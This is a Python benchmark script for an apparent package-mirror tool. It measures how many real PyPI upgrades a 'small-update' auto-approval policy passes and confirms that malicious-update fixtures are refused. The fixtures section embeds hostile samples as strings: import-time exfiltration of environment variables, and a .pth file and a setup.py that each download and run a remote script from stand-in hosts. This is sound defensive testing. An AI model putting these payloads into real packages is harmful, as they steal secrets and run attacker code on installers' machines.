#!/usr/bin/env python3
"""The `small-update` auto-approval policy on real upgrades (issue #13's
measure): of the most recent patch or minor upgrade of each of N popular
projects, how many the policy approves, how many lines a person reads for
the rest, and that the malicious-update fixtures never pass it.

Method:
1. Projects are taken in order from the popular list (default
   ../shared/datasets/benign-dev.txt, most downloaded first). For each, the
   upstream's PEP 691 JSON page gives its final, unyanked versions; the
   upgrade is the newest pair of consecutive versions with the same major
   (`2.32.4 -> 2.32.5`; after a new major, the last pair before it that
   shares one). `airlock select-files` (the mirror job's own choice for
   the default targets) tells what both releases will mirror; a project
   whose two releases exceed --max-mb, or that has no file for some
   target, is skipped and named (time on a shared machine), as is one
   with no such pair. The first N left are measured.
2. A real Airlock runs as the README runs it: the release binary,
   `airlock serve` with its in-process workers, embedded SQLite in a
   scratch data folder, the upstream from --upstream / AIRLOCK_UPSTREAM
   (never written in this repository), default settings except
   `auto_approve_max_lines` (--limits, one run each; the policy is off by default)
   and no periodic syncs. Every base release is requested through the
   API (without dependencies), and once it awaits review it is approved by
   an auditor (a user made with `airlock user add`, an API token from
   `airlock token create`, `POST …/decision`). Then every upgrade is
   requested and the bench waits until the worker has measured it against
   the base (`audit_base` in the API) and weighed it: approved by
   `policy:small-update` (its decision in the API), or declined, with the
   reason the worker logs (`left for a person`, JSON log, matched by the
   release's row id in the SQLite database).
3. One such run per line limit (--limits, default 100, 500, 2,000 and
   10^9, which is no limit: the policy's other reasons show). Per upgrade,
   from the API: the delta's lines of code (`audit_lines`, what the policy
   weighs) and of data (`audit_data_lines`), the capabilities the upgrade
   has and the base lacks, and the findings at or above
   `auto_approve_below` (low) it has more of than the base, per rule (the
   policy also refuses an added or changed binary file, which only its
   reason shows). With the default settings the policy is off: nothing
   passes and a person reads every delta.
4. Unless --no-fixtures: a second Airlock, same binary and settings (at
   the smallest and the largest limit), against a local upstream serving
   the malicious-update fixtures of tests/e2e_policy.rs (1.0 clean and
   approved; 1.0.1 a clean edit; 1.0.2 sends the environment away at
   import; 1.0.3 adds a `.pth` file; 1.0.4 an sdist whose setup.py
   downloads and runs a script). Written here as bytes, never installed
   or run.

Usage:
    AIRLOCK_UPSTREAM=https://<upstream>/simple/ AIRLOCK_UPSTREAM_FILE_HOSTS=<file host> \\
        bench/upgrade_policy.py [--projects 20] [--limits 100,500,2000,1000000000] [--names a,b,c] [--binary target/release/airlock]
"""

import argparse
import base64
import hashlib
import http.server
import io
import json
import os
import re
import shutil
import socket
import sqlite3
import statistics
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
JSON_TYPE = "application/vnd.pypi.simple.v1+json"
SEVERITY_RANK = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}


def log(msg):
    print(msg, file=sys.stderr, flush=True)


# --- choosing the upgrades ---------------------------------------------------


def fetch_page(upstream, project):
    url = upstream.rstrip("/") + "/" + project + "/"
    req = urllib.request.Request(url, headers={"Accept": JSON_TYPE, "User-Agent": "airlock-bench"})
    with urllib.request.urlopen(req, timeout=60) as r:
        return r.read()


def upgrade_pair(page):
    """The newest consecutive pair of final, unyanked versions with files
    that share a major version, or None."""
    from pip._vendor.packaging.utils import InvalidSdistFilename, InvalidWheelFilename, parse_sdist_filename, parse_wheel_filename
    from pip._vendor.packaging.version import InvalidVersion, Version

    live = set()
    for f in json.loads(page)["files"]:
        if f.get("yanked"):
            continue
        name = f["filename"]
        try:
            version = parse_wheel_filename(name)[1] if name.endswith(".whl") else parse_sdist_filename(name)[1]
        except (InvalidWheelFilename, InvalidSdistFilename, InvalidVersion):
            continue
        if not (version.is_prerelease or version.is_devrelease):
            live.add(version)
    ordered = sorted(live)
    for older, newer in reversed(list(zip(ordered, ordered[1:]))):
        if older.major == newer.major:
            return str(older), str(newer)
    return None


def selection(binary, scratch, project, version, page_path):
    """What the mirror job keeps of a release for the default targets."""
    cmd = [binary, "--data-dir", scratch, "select-files", f"{project}=={version}", page_path, "--json"]
    out = subprocess.run(cmd, capture_output=True, text=True)
    if out.returncode not in (0, 1) or not out.stdout:
        sys.exit(f"{' '.join(cmd)} failed: {out.stderr}")
    return json.loads(out.stdout)


def choose(args, names):
    chosen, skipped = [], []
    with tempfile.TemporaryDirectory(prefix="airlock-upgrade-pick-") as scratch:
        for name in names:
            if len(chosen) == args.projects:
                break
            try:
                page = fetch_page(args.upstream, name)
            except urllib.error.URLError as e:
                skipped.append((name, f"page unreadable: {e}"))
                continue
            pair = upgrade_pair(page)
            if pair is None:
                skipped.append((name, "no patch or minor upgrade"))
                continue
            path = os.path.join(scratch, "page.json")
            with open(path, "wb") as f:
                f.write(page)
            picks = [selection(args.binary, scratch, name, v, path) for v in pair]
            gaps = [p["gap"] for p in picks if p.get("gap")]
            mb = sum(p["kept"]["bytes"] for p in picks) / 1e6
            if gaps:
                skipped.append((name, f"{pair[1]}: a target has no file ({gaps[0]})"))
            elif mb > args.max_mb:
                skipped.append((name, f"{pair[0]} -> {pair[1]}: {mb:.0f} MB to mirror (over --max-mb {args.max_mb})"))
            else:
                chosen.append({"project": name, "base": pair[0], "new": pair[1], "mb": mb, "files": picks[1]["kept"]["files"]})
                log(f"  {name}: {pair[0]} -> {pair[1]} ({picks[1]['kept']['files']} files, {mb:.1f} MB both)")
    return chosen, skipped


# --- one Airlock -------------------------------------------------------------


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Airlock:
    """The release binary on embedded SQLite in a scratch folder: `serve`
    with its in-process workers, an auditor and its API token."""

    def __init__(self, binary, upstream, file_hosts, max_lines):
        self.binary = binary
        self.data = tempfile.mkdtemp(prefix="airlock-upgrade-")
        config = os.path.join(self.data, "airlock.toml")
        with open(config, "w") as f:
            f.write(f"auto_approve_max_lines = {max_lines}\nwatch_sync_secs = 0\nupstream_sync_secs = 0\n")
        self.env = {k: v for k, v in os.environ.items() if not k.startswith("AIRLOCK_") and k != "DATABASE_URL"}
        self.env.update(AIRLOCK_DATA_DIR=self.data, AIRLOCK_CONFIG=config, AIRLOCK_UPSTREAM=upstream, AIRLOCK_LOG_FORMAT="json", RUST_LOG="info")
        if file_hosts:
            self.env.update(AIRLOCK_UPSTREAM_FILE_HOSTS=file_hosts, AIRLOCK_UPSTREAM_ALLOW_PRIVATE="true")
        self.run("migrate")
        self.run("user", "add", "bench-auditor", "--role", "auditor", "--password-stdin", stdin="bench auditor password 1\n")
        self.token = self.run("token", "create", "--user", "bench-auditor").strip()
        self.log_path = os.path.join(self.data, "serve.log")
        port = free_port()
        self.base = f"http://127.0.0.1:{port}"
        with open(self.log_path, "ab") as log_file:
            self.proc = subprocess.Popen([binary, "serve", "--listen", f"127.0.0.1:{port}"], env=self.env, stdout=log_file, stderr=log_file)
        deadline = time.time() + 120
        while True:
            try:
                with urllib.request.urlopen(f"{self.base}/readyz", timeout=2) as r:
                    if r.status == 200:
                        break
            except OSError:
                if time.time() > deadline or self.proc.poll() is not None:
                    sys.exit(f"airlock serve never became ready; log: {self.log_path}")
                time.sleep(0.2)

    def run(self, *argv, stdin=None):
        out = subprocess.run([self.binary, *argv], env=self.env, input=stdin, capture_output=True, text=True)
        if out.returncode != 0:
            sys.exit(f"airlock {' '.join(argv)} failed: {out.stderr}")
        return out.stdout

    def api(self, method, path, body=None):
        req = urllib.request.Request(f"{self.base}{path}", method=method, data=json.dumps(body).encode() if body is not None else None)
        req.add_header("Authorization", f"Bearer {self.token}")
        req.add_header("Content-Type", "application/json")
        with urllib.request.urlopen(req, timeout=60) as r:
            return json.loads(r.read() or b"null")

    def request(self, project, version):
        return self.api("POST", "/api/v1/requests", {"requirement": f"{project}=={version}", "with_dependencies": False})

    def release(self, project, version):
        return self.api("GET", f"/api/v1/releases/{urllib.parse.quote(project)}/{urllib.parse.quote(version)}")

    def approve(self, project, version, comment):
        return self.api("POST", f"/api/v1/releases/{urllib.parse.quote(project)}/{urllib.parse.quote(version)}/decision", {"decision": "approve", "comment": comment})

    def release_id(self, project, version):
        """The release's row id, which the worker's log lines carry."""
        db = sqlite3.connect(f"file:{os.path.join(self.data, 'airlock.db')}?mode=ro", uri=True, timeout=30)
        try:
            row = db.execute(
                "SELECT r.id FROM releases r JOIN projects p ON p.id = r.project_id WHERE p.name = ? AND r.version = ?",
                (normalize(project), version),
            ).fetchone()
        finally:
            db.close()
        return row[0] if row else None

    def policy_verdicts(self):
        """release id -> why the policy left it for a person (from the log)."""
        declined = {}
        with open(self.log_path, errors="replace") as f:
            for line in f:
                if "left for a person" not in line:
                    continue
                try:
                    fields = json.loads(line).get("fields", {})
                except json.JSONDecodeError:
                    continue
                if fields.get("message") == "left for a person":
                    declined[int(fields["release_id"])] = fields.get("why", "")
        return declined

    def stop(self):
        self.proc.terminate()
        try:
            self.proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self.proc.kill()

    def cleanup(self):
        shutil.rmtree(self.data, ignore_errors=True)


def normalize(name):
    return re.sub(r"[-_.]+", "-", name).lower()


def wait_all(airlock, pairs, ready, bound, what):
    """Poll each (project, version) until `ready(release)` is true or it failed."""
    started, done = time.time(), {}
    while len(done) < len(pairs):
        for key in pairs:
            if key in done:
                continue
            try:
                r = airlock.release(*key)
            except urllib.error.HTTPError:
                continue
            if r["status"] == "failed" or ready(r):
                done[key] = (r, time.time() - started)
                log(f"  {key[0]} {key[1]}: {r['status']} after {time.time() - started:.0f} s")
        if time.time() - started > bound:
            for key in pairs:
                if key not in done:
                    done[key] = (airlock.release(*key), None)
            log(f"  timed out after {bound} s waiting for {what}")
            break
        time.sleep(1)
    return done


def policy_decision(airlock, project, version, release):
    """("approved", evidence), ("declined", reason) or None while undecided."""
    for d in release.get("decisions", []):
        if d.get("policy") == "small-update":
            return ("approved", d.get("comment", ""))
    rid = airlock.release_id(project, version)
    why = airlock.policy_verdicts().get(rid)
    return ("declined", why) if why is not None else None


def weighed(airlock):
    """Ready once approved, or measured against an approved base (the
    nearest: a fixture approved meanwhile is nearer than the first base)
    and declined by the policy."""

    def ready(r):
        if r["status"] == "approved":
            return True
        return r["status"] == "awaiting_review" and r.get("audit_base") is not None and policy_decision(airlock, r["project"], r["version"], r) is not None

    return ready


# --- what the policy weighs --------------------------------------------------


def findings_counts(release, below):
    counts = {}
    for f in release.get("findings", []):
        if SEVERITY_RANK.get(f["severity"], 0) >= SEVERITY_RANK[below]:
            counts[f["rule"]] = counts.get(f["rule"], 0) + 1
    return counts


def added(base, new, below="low"):
    caps = sorted(set(new.get("capabilities", [])) - set(base.get("capabilities", [])))
    before = findings_counts(base, below)
    more = sorted(f"{rule} ({n})" for rule, n in findings_counts(new, below).items() if n > before.get(rule, 0))
    return caps, more


# --- the real upgrades -------------------------------------------------------


def measure_upgrades(args, chosen, limit):
    airlock = Airlock(args.binary, args.upstream, args.file_hosts, limit)
    rows = []
    try:
        bases = [(c["project"], c["base"]) for c in chosen]
        started = time.time()
        for p, v in bases:
            airlock.request(p, v)
        log(f"auto_approve_max_lines = {limit}: requested {len(bases)} base releases")
        base_state = wait_all(airlock, bases, lambda r: r["status"] == "awaiting_review", args.timeout, "the bases to await review")
        for (p, v), (r, _) in base_state.items():
            if r["status"] == "awaiting_review":
                airlock.approve(p, v, "bench: read in full")
        log(f"bases mirrored, inspected and approved in {time.time() - started:.0f} s")
        ups = [(c["project"], c["new"]) for c in chosen if base_state[(c["project"], c["base"])][0]["status"] == "awaiting_review"]
        started = time.time()
        for p, v in ups:
            airlock.request(p, v)
        log(f"requested {len(ups)} upgrades")
        up_state = wait_all(airlock, ups, weighed(airlock), args.timeout, "the upgrades to be weighed")
        log(f"upgrades measured and weighed in {time.time() - started:.0f} s")
        for c in chosen:
            base = airlock.release(c["project"], c["base"])
            row = dict(c, lines=None, data_lines=None, caps_added=[], findings_added=[], decision=None, reason="", status=base["status"])
            key = (c["project"], c["new"])
            if key not in up_state:
                row["reason"] = f"base {base['status']}: {base.get('error') or ''}"
                rows.append(row)
                continue
            new, _ = up_state[key]
            row.update(status=new["status"], lines=new.get("audit_lines"), data_lines=new.get("audit_data_lines"), audit_base=new.get("audit_base"))
            row["caps_added"], row["findings_added"] = added(base, new)
            decided = policy_decision(airlock, *key, new)
            if decided:
                row["decision"], row["reason"] = decided
            else:
                row["reason"] = new.get("error") or "not weighed"
            rows.append(row)
    finally:
        airlock.stop()
        if args.keep:
            log(f"kept the data folder {airlock.data}")
        else:
            airlock.cleanup()
    return rows


def label(limit):
    return "no limit (10⁹)" if limit >= 10**9 else f"{limit:,}"


def report_upgrades(runs, skipped):
    """`runs`: auto_approve_max_lines -> rows, one live run each."""
    limits = sorted(runs)
    rows = runs[limits[0]]
    widest = runs[limits[-1]]
    print(f"\n## The most recent patch or minor upgrade of {len(rows)} popular projects (auto_approve_below = low; one live run per limit)\n")
    print("| project | upgrade | MB (both) | lines of code | lines of data | capabilities added | findings added (≥ low) | " + " | ".join(label(l) for l in limits) + " | why not, whatever the size |")
    print("| --- | --- | ---: | ---: | ---: | --- | --- | " + " | ".join(":---:" for _ in limits) + " | --- |")
    for i, r in enumerate(rows):
        cells = []
        for l in limits:
            d = runs[l][i]["decision"]
            cells.append("pass" if d == "approved" else "—" if d == "declined" else runs[l][i]["status"])
        w = widest[i]
        why = "(only its size)" if w["decision"] == "approved" else w["reason"].replace("|", "\\|")
        print(
            f"| {r['project']} | {r['base']} → {r['new']} | {r['mb']:.1f} | {fmt(r['lines'])} | {fmt(r['data_lines'])} "
            f"| {', '.join(r['caps_added']) or '—'} | {', '.join(r['findings_added']) or '—'} | {' | '.join(cells)} | {why} |"
        )
    unweighed = sorted({r["project"] for l in limits for r in runs[l] if not r["decision"]})
    if unweighed:
        print(f"\nNot weighed by the policy (failed or timed out): {', '.join(unweighed)}.")
    print("\n| auto_approve_max_lines | pass | median lines of code a person reads for the rest | their sum |")
    print("| ---: | ---: | ---: | ---: |")
    measured = [r for r in rows if r["lines"] is not None]
    print(f"| 0 (default: the policy is off) | 0 of {len(rows)} | {statistics.median(r['lines'] for r in measured):,.0f} | {sum(r['lines'] for r in measured):,} |")
    for l in limits:
        rest = [r["lines"] for r in runs[l] if r["decision"] != "approved" and r["lines"] is not None]
        passed = sum(r["decision"] == "approved" for r in runs[l])
        med = f"{statistics.median(rest):,.0f}" if rest else "—"
        print(f"| {label(l)} | {passed} of {len(runs[l])} | {med} | {sum(rest):,} |")
    if skipped:
        print("\nSkipped: " + "; ".join(f"{n} ({why})" for n, why in skipped) + ".")


def fmt(n):
    return "—" if n is None else f"{n:,}"


# --- the malicious-update fixtures ------------------------------------------

FIXTURE = "policy-demo"
CLEAN = "VALUE = 1\n\ndef value():\n    return VALUE\n"
EDITED = "VALUE = 2\n\ndef value():\n    return VALUE\n"
EXFILTRATES = "import os\nimport urllib.request\n\nVALUE = 3\nurllib.request.urlopen('https://collector.invalid/c', data=repr(dict(os.environ)).encode())\n"
PTH = "import os; os.system('curl -s https://payload.invalid/p.sh | sh')\n"
SETUP_PY = (
    "import subprocess\nimport urllib.request\nfrom setuptools import setup\n\n"
    "subprocess.run(urllib.request.urlopen('https://payload.invalid/p.sh').read(), shell=True)\nsetup(name='policy-demo', version='1.0.4')\n"
)
# version -> (what it is, expected to pass the policy)
FIXTURES = {
    "1.0.1": ("a clean two-line edit", True),
    "1.0.2": ("sends os.environ away at import", False),
    "1.0.3": ("adds a .pth file that downloads and runs a script", False),
    "1.0.4": ("sdist only, setup.py downloads and runs a script", False),
}


def record_hash(data):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def metadata(version):
    return f"Metadata-Version: 2.1\nName: {FIXTURE}\nVersion: {version}\nSummary: policy fixture\n".encode()


def fixture_wheel(version, module, extra=None):
    info = f"policy_demo-{version}.dist-info"
    members = {"policy_demo/__init__.py": module.encode(), **(extra or {}), f"{info}/METADATA": metadata(version)}
    members[f"{info}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: upgrade_policy\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    members[f"{info}/RECORD"] = ("".join(f"{p},{record_hash(d)},{len(d)}\n" for p, d in members.items()) + f"{info}/RECORD,,\n").encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for path, data in members.items():
            z.writestr(path, data)
    return f"policy_demo-{version}-py3-none-any.whl", buf.getvalue()


def fixture_sdist(version, module, setup_py):
    stem = f"policy_demo-{version}"
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path, data in {"PKG-INFO": metadata(version), "setup.py": setup_py.encode(), "policy_demo/__init__.py": module.encode()}.items():
            info = tarfile.TarInfo(f"{stem}/{path}")
            info.size, info.mtime, info.mode = len(data), 1700000000, 0o644
            tar.addfile(info, io.BytesIO(data))
    return f"{stem}.tar.gz", buf.getvalue()


class FixtureUpstream:
    """PEP 691 JSON page and files of the fixtures on 127.0.0.1."""

    def __init__(self, files):
        self.files = dict(files)
        page = {
            "meta": {"api-version": "1.1"},
            "name": FIXTURE,
            "files": [{"filename": f, "url": f"/files/{f}", "hashes": {"sha256": hashlib.sha256(b).hexdigest()}, "size": len(b)} for f, b in files],
        }
        body = json.dumps(page).encode()
        store = self.files

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a):
                pass

            def do_GET(self):
                path = urllib.parse.unquote(self.path.split("?")[0])
                if path.rstrip("/") == f"/simple/{FIXTURE}":
                    return self.answer(200, JSON_TYPE, body)
                if path.startswith("/files/") and path[len("/files/") :] in store:
                    return self.answer(200, "application/octet-stream", store[path[len("/files/") :]])
                self.answer(404, "text/plain", b"not found")

            def answer(self, status, ctype, data):
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}/simple/"


def measure_fixtures(args, limit):
    files = [
        fixture_wheel("1.0", CLEAN),
        fixture_wheel("1.0.1", EDITED),
        fixture_wheel("1.0.2", EXFILTRATES),
        fixture_wheel("1.0.3", CLEAN, {"policy_demo_hook.pth": PTH.encode()}),
        fixture_sdist("1.0.4", CLEAN, SETUP_PY),
    ]
    upstream = FixtureUpstream(files)
    airlock = Airlock(args.binary, upstream.base, None, limit)
    rows = []
    try:
        airlock.request(FIXTURE, "1.0")
        base, _ = wait_all(airlock, [(FIXTURE, "1.0")], lambda r: r["status"] == "awaiting_review", 300, "the fixture base")[(FIXTURE, "1.0")]
        airlock.approve(FIXTURE, "1.0", "bench: read in full")
        for v in FIXTURES:
            airlock.request(FIXTURE, v)
        state = wait_all(airlock, [(FIXTURE, v) for v in FIXTURES], weighed(airlock), 600, "the fixtures to be weighed")
        base = airlock.release(FIXTURE, "1.0")
        for v, (what, expected) in FIXTURES.items():
            new, _ = state[(FIXTURE, v)]
            caps, more = added(base, new)
            decided = policy_decision(airlock, FIXTURE, v, new) or ("undecided", new.get("error") or "")
            rows.append((v, what, f'{fmt(new.get("audit_lines"))} (from {new.get("audit_base")})', caps, more, decided, expected))
    finally:
        airlock.stop()
        airlock.cleanup()
        upstream.server.shutdown()
    print(f"\n## Malicious-update fixtures (tests/e2e_policy.rs) through the same path, auto_approve_max_lines = {label(limit)}\n")
    print("| version | what it does | lines of code (base) | capabilities added | findings added (≥ low) | policy | as it must |")
    print("| --- | --- | ---: | --- | --- | --- | --- |")
    ok = True
    for v, what, lines, caps, more, (decision, why), expected in rows:
        good = (decision == "approved") == expected
        ok &= good
        shown = decision if decision == "approved" else f"{decision}: {why}".replace("|", "\\|")
        print(f"| {v} | {what} | {lines} | {', '.join(caps) or '—'} | {', '.join(more) or '—'} | {shown} | {'yes' if good else 'NO'} |")
    print(f"\nMalicious fixtures approved by the policy: {sum(1 for r in rows if r[5][0] == 'approved' and not r[6])} of {sum(1 for r in rows if not r[6])}.")
    return ok


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--projects", type=int, default=20)
    p.add_argument("--names", help="comma-separated projects instead of the list")
    p.add_argument("--list", default=os.path.join(ROOT, "..", "shared", "datasets", "benign-dev.txt"))
    p.add_argument("--limits", default="100,500,2000,1000000000", help="auto_approve_max_lines of each live run (10^9: no line limit, shows every other reason)")
    p.add_argument("--max-mb", type=float, default=60, help="skip a project whose two releases mirror more (default 60)")
    p.add_argument("--timeout", type=int, default=3600, help="seconds to wait for each phase")
    p.add_argument("--upstream", default=os.environ.get("AIRLOCK_UPSTREAM"))
    p.add_argument("--file-hosts", default=os.environ.get("AIRLOCK_UPSTREAM_FILE_HOSTS"))
    p.add_argument("--binary", default=os.environ.get("AIRLOCK_BIN") or os.path.join(ROOT, "target", "release", "airlock"))
    p.add_argument("--no-fixtures", action="store_true", help="skip the malicious-update fixtures")
    p.add_argument("--only-fixtures", action="store_true")
    p.add_argument("--keep", action="store_true", help="keep the real run's data folder and log")
    args = p.parse_args()
    log(f"binary {args.binary}; {os.cpu_count()} CPUs; load average {os.getloadavg()[0]:.1f}")
    ok = True
    limits = sorted({int(x) for x in args.limits.split(",") if x.strip()})
    if not args.only_fixtures:
        if not args.upstream:
            sys.exit("set AIRLOCK_UPSTREAM (or --upstream) to the upstream simple index, and AIRLOCK_UPSTREAM_FILE_HOSTS to its file host")
        if args.names:
            names = [n.strip() for n in args.names.split(",") if n.strip()]
        else:
            with open(args.list) as f:
                names = [line.strip() for line in f if line.strip() and not line.startswith("#")]
        started = time.time()
        chosen, skipped = choose(args, names)
        runs = {limit: measure_upgrades(args, chosen, limit) for limit in limits}
        report_upgrades(runs, skipped)
        print(f"\n{len(chosen)} upgrades in {time.time() - started:.0f} s; load average at the end {os.getloadavg()[0]:.1f}")
    if not args.no_fixtures:
        ok = all([measure_fixtures(args, limit) for limit in (min(limits), max(limits))])
    sys.exit(0 if ok else 1)


if __name__ == "__main__":
    main()
